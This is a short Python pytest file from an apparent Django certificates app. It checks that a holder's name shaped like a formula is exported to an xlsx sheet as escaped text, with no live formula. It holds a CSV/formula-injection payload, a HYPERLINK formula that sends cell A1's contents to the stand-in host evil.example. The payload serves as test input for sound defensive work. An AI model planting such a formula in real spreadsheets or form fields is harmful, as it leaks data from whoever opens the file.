"""Issue 10 §11: a holder's name that looks like a formula stays text in the 已发证书 export."""

import io

import pytest
from openpyxl import load_workbook

from tests.factories import PersonUserFactory
from zhuanji.certificates.exports import issued_xlsx
from zhuanji.certificates.models import Certificate

pytestmark = pytest.mark.django_db


def test_a_formula_in_a_name_is_not_live_in_the_export(issue):
    evil = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    holder = PersonUserFactory(name=evil)  # registered before names were checked
    issue(holder=holder, specialty="-1+1")
    sheet = load_workbook(io.BytesIO(issued_xlsx(Certificate.objects.all()))).active
    rows = list(sheet.iter_rows(min_row=2, values_only=False))
    name_cell = rows[0][4]
    assert name_cell.value == "'" + evil and name_cell.data_type == "s"
    assert not any(cell.data_type == "f" for row in rows for cell in row)
